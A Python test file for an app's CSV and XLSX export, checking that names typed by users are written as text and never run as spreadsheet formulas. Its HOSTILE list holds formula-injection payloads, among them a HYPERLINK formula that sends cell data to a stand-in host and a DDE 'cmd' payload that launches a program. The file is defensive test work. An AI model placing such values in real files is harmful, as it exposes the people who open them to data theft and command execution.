"""Names typed by people reach exported files as text, never as spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

import pytest

from counter_app.export.csv_file import table_csv
from counter_app.export.tables import Sheet, Table, TableName
from counter_app.export.xlsx_file import workbook_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    rows: list[list[str | int | float | None]] = [[name, -3, -1.5, None] for name in HOSTILE]
    rows.append(["Loket 1", 4, 2.5, None])
    return Table(TableName.SUMMARY, "Ringkasan", ["=Nama", "Jumlah", "Menit", "Kosong"], rows)


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_csv_text_cells_that_start_a_formula_are_quoted_with_an_apostrophe() -> None:
    header, *rows = _rows(table_csv(_table()))
    assert header[0] == "'=Nama"
    for name, row in zip(HOSTILE, rows, strict=False):
        assert row[0] == "'" + name
    assert rows[-1][0] == "Loket 1"


def test_csv_negative_numbers_stay_numbers() -> None:
    _, *rows = _rows(table_csv(_table()))
    for row in rows[:-1]:
        assert row[1:] == ["-3", "-1.5", ""]


@pytest.mark.parametrize("text", ["Pak Budi", "A-007", "50% selesai", "loket=2"])
def test_csv_ordinary_text_is_unchanged(text: str) -> None:
    table = Table(TableName.SUMMARY, "t", ["Nama"], [[text]])
    assert _rows(table_csv(table))[1] == [text]


def test_xlsx_writes_hostile_names_as_strings_never_formulas() -> None:
    table = _table()
    data = workbook_xlsx(
        [Sheet("Ringkasan", [table.title, "periode"], [table])],
        "periode",
        datetime(2026, 1, 1, tzinfo=UTC),
    )
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in strings and "cmd|" in strings
    # Negative numbers are numeric cells (no t="s"), with their value.
    assert re.search(r'<c r="B5"[^>]*><v>-3</v></c>', sheet)


def test_xlsx_text_that_starts_a_formula_carries_the_quote_prefix() -> None:
    from openpyxl import load_workbook

    table = _table()
    data = workbook_xlsx(
        [Sheet("=Lembar", ["=Judul", "periode"], [table])],
        "periode",
        datetime(2026, 1, 1, tzinfo=UTC),
    )
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (sheet["A1"].value, sheet["A1"].quotePrefix, sheet["A1"].font.b) == (
        "=Judul",
        True,
        True,
    )
    assert (sheet["A2"].value, sheet["A2"].quotePrefix) == ("periode", False)
    assert (sheet["A4"].value, sheet["A4"].quotePrefix) == ("=Nama", True)
    for row, name in enumerate(HOSTILE, start=5):
        cell = sheet.cell(row, 1)
        # openpyxl leaves the file's escape of a carriage return as it is.
        value = str(cell.value).replace("_x000D_", "\r")
        assert (value, cell.data_type, cell.quotePrefix) == (name, "s", True)
        assert sheet.cell(row, 2).value == -3  # numbers stay numbers
    last = sheet.cell(5 + len(HOSTILE), 1)
    assert (last.value, last.quotePrefix) == ("Loket 1", False)
